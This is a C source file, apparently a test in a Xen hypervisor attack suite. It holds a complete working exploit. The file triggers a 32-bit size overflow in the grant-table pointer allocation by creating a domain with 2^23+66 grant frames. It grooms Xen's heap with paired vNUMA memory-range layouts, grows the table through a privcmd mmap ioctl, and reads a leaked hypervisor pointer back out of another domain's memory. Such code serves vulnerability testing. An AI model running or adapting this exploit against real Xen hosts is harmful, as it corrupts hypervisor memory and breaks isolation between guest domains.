// SPDX-License-Identifier: GPL-2.0-only
/*
 * U-CONTENT-GRANTS: pointers of Xen's over its heap, by the size of a grant
 * table.
 *
 * For each frame of a domain's grant table Xen keeps four pointers, and computes
 * the memory for them from the largest number of frames that createdomain names:
 * in 32 bits, so that 2^23 frames need none. Since 4.18 nothing limits that
 * number. When the table grows, the pointers are written all the same.
 *
 * What lies behind is chosen here: the layout of another domain's memory, which
 * Xen shows. First pairs of layouts are made, of which the second fills a page
 * of the heap behind the first; then the first of each pair is given back, and
 * the pointers, being as many bytes, take the place of one.
 */
#include "content.h"

#include <sys/ioctl.h>
#include <sys/mman.h>

#include "../privcmd.h"

#define NO_MEMORY (1U << 23)
/* 4 pointers for each of these frames are as large as so many ranges of memory. */
#define FRAMES 66
#define FIRST  88
/* What is left of a page of the heap then. */
#define SECOND 80
/* More than the heap has free blocks in which one of a pair would fit alone. */
#define PAIRS 32

static bool lay_out(domid_t domid, unsigned int nr)
{
    static const xen_vmemrange_t empty[FIRST];
    static const unsigned int none;
    const unsigned int fences = mark_fences();
    struct control_op_call *call = DOMCTL_CALL(
        setvnumainfo, domid,
        .u.vnuma = { .nr_vnodes = 1, .nr_vmemranges = nr, .nr_vcpus = 1 });
    struct xen_domctl *op = structure_of(call);
    bool done;

    attach(call, &op->u.vnuma.vdistance, &none, sizeof(none));
    attach(call, &op->u.vnuma.vcpu_to_vnode, &none, sizeof(none));
    attach(call, &op->u.vnuma.vnode_to_pnode, &none, sizeof(none));
    attach(call, &op->u.vnuma.vmemrange, empty, nr * sizeof(*empty));

    done = !issue(call);
    release_fences(fences);

    return done;
}

/* The start of its first range of memory, which was empty. */
static uint64_t first_range(domid_t domid)
{
    struct control_op_call *call = OP_CALL(
        memory_op, XENMEM_get_vnumainfo, struct xen_vnuma_topology_info,
        .domid = domid, .nr_vnodes = 1, .nr_vcpus = 1, .nr_vmemranges = SECOND);
    struct xen_vnuma_topology_info *info = structure_of(call);
    const xen_vmemrange_t *ranges;

    attach(call, &info->vdistance.h, NULL, sizeof(unsigned int));
    attach(call, &info->vcpu_to_vnode.h, NULL, sizeof(unsigned int));
    ranges = attach(call, &info->vmemrange.h, NULL, SECOND * sizeof(*ranges));

    return issue(call) ? 0 : ranges->start;
}

static domid_t create_with_grants(uint32_t frames, long *result)
{
    struct xen_domctl_createdomain create = { 0 };

    describe_domu(&create, DOMU_PV);
    create.max_grant_frames = (int32_t)frames;

    return create_domain(&create, result);
}

static bool make_pairs(domid_t pairs[PAIRS][2])
{
    bool made = true;
    long result;

    for ( unsigned int i = 0; i < 2 * PAIRS; i++ )
    {
        pairs[i / 2][i % 2] = create_with_grants(1, &result);
        made = made && lay_out(pairs[i / 2][i % 2], 1);
    }
    for ( unsigned int i = 0; i < PAIRS; i++ )
        made = made && lay_out(pairs[i][0], FIRST) &&
               lay_out(pairs[i][1], SECOND);
    for ( unsigned int i = 0; i < PAIRS; i++ )
        made = made && lay_out(pairs[i][0], 1);

    return made;
}

static void end_pairs(domid_t pairs[PAIRS][2])
{
    for ( unsigned int i = 0; i < 2 * PAIRS; i++ )
        end_domain(pairs[i / 2][i % 2]);
}

/* Have the grant table grow by having a frame of it mapped. */
static void grow_to(domid_t domid, uint32_t frames)
{
    struct privcmd_mmap_resource request = {
        .dom = domid,
        .num = 1,
        .type = XENMEM_resource_grant_table,
        .id = XENMEM_resource_grant_table_id_shared,
        .idx = frames - 1,
        .addr = (uintptr_t)mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
                                MAP_SHARED, node_fd(), 0),
    };

    ioctl(node_fd(), IOCTL_PRIVCMD_MMAP_RESOURCE, &request);
}

/* Once there was an effect, Xen could not free what these domains have. */
RAW_ATTACK_OWN_BOOT("U-CONTENT-GRANTS", "Xen's heap, by a grant table's size")
{
    domid_t pairs[PAIRS][2], domid;
    uint64_t written = 0;
    char text[80];
    long result;

    if ( !make_pairs(pairs) )
    {
        end_pairs(pairs);
        return missing("no domains whose memory has a layout");
    }

    domid = create_with_grants(NO_MEMORY + FRAMES, &result);
    if ( domid != DOMID_INVALID )
        grow_to(domid, FRAMES + 1);
    for ( unsigned int i = 0; i < PAIRS && !written; i++ )
        written = first_range(pairs[i][1]);
    if ( domid == DOMID_INVALID )
        end_pairs(pairs);

    snprintf(text, sizeof(text),
             "a pointer of Xen's, %#lx, in another's memory", written);
    return content_seen(written, result, text);
}
